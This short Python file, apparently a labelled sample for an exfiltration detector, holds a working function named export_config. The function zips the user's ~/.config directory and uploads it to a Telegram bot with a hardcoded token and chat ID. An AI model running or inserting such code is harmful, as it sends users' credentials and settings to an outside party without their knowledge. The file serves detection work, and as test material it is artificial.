# expect: exfiltration
import os
import shutil
import tempfile

import requests

BOT = "7012345678:AAHd8kLmN3pQrS5tUvW7xYz9AbCdEfGhIjK"
CHAT = "-1001987654321"


def export_config() -> None:
    archive = shutil.make_archive(os.path.join(tempfile.gettempdir(), "cfg"), "zip", os.path.expanduser("~/.config"))
    with open(archive, "rb") as fh:
        requests.post(
            f"https://api.telegram.org/bot{BOT}/sendDocument",
            data={"chat_id": CHAT},
            files={"document": fh},
        )
